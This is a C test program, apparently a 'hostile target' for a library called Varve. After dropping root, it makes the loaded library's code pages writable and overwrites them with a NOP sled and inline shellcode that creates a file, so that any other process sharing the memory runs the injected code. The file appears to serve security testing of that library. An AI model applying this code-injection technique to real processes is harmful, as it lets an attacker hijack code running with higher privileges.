/*
 * A hostile target: takeover USER FILE
 *
 * Touches a page until there is a file "go" in the current folder. Then it gives up root for good, and then overwrites the code of the library that Varve loaded with code of its own, which makes
 * FILE: whoever else runs in this memory, with whatever rights it has kept, runs that. Itself it goes on without
 * the library, without its stack and without any memory that could be moved, until there is a file "over".
 */
#define _GNU_SOURCE
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

extern char code_begin[], code_path[], code_end[];
asm(".pushsection .data\n"
    "code_begin:\n"
    "	mov $2, %eax\n"
    "	lea code_path(%rip), %rdi\n"
    "	mov $0x241, %esi\n"
    "	mov $0600, %edx\n"
    "	syscall\n"
    "	mov $231, %eax\n"
    "	xor %edi, %edi\n"
    "	syscall\n"
    "	hlt\n"
    "code_path:\n"
    "	.skip 256\n"
    "code_end:\n"
    ".popsection");

static const struct timespec moment = { 0, 1000000 };
static const char over[] = "over";

int main(int argc, char **argv)
{
	char line[512], *text = NULL;
	unsigned long from, to, bytes = code_end - code_begin;
	unsigned user;
	char kind[8];
	volatile char *page;
	FILE *maps;

	if (argc != 3 || strlen(argv[2]) > 255)
		return 2;
	user = atoi(argv[1]);
	strcpy(code_path, argv[2]);
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	*page = 1;
	/* The test may be gone; this lasts beyond the loss of rights */
	alarm(300);
	while (access("go", F_OK)) {
		usleep(1000);
		*page += 1;
	}
	maps = fopen("/proc/self/maps", "r");
	if (setgroups(0, NULL) || setresgid(user, user, user) || setresuid(user, user, user))
		return 3;
	while (maps && fgets(line, sizeof(line), maps)) {
		if (strstr(line, "varve") && strstr(line, ".so") &&
		    sscanf(line, "%lx-%lx %7s", &from, &to, kind) == 3 && !strcmp(kind, "r-xp"))
			text = (char *)from, bytes = to - from;
	}
	if (!text || mprotect(text, bytes, PROT_READ | PROT_WRITE | PROT_EXEC))
		return 4;
	printf("taken over\n");
	fflush(stdout);
	/* From every instruction one slides to the code at the end */
	memset(text, 0x90, bytes);
	memcpy(text + bytes - (code_end - code_begin), code_begin, code_end - code_begin);
	/* Wakes whoever waits for an access */
	*page += 1;
	asm volatile("1:	mov $21, %%eax\n"
		     "	lea %1, %%rdi\n"
		     "	xor %%esi, %%esi\n"
		     "	syscall\n"
		     "	test %%eax, %%eax\n"
		     "	jz 2f\n"
		     "	mov $35, %%eax\n"
		     "	lea %0, %%rdi\n"
		     "	xor %%esi, %%esi\n"
		     "	syscall\n"
		     "	jmp 1b\n"
		     "2:\n"
		     "	mov $231, %%eax\n"
		     "	xor %%edi, %%edi\n"
		     "	syscall\n"
		     "	hlt\n"
		     :
		     : "m"(moment), "m"(over)
		     : "rax", "rcx", "rdi", "rsi", "r11");
	__builtin_unreachable();
}
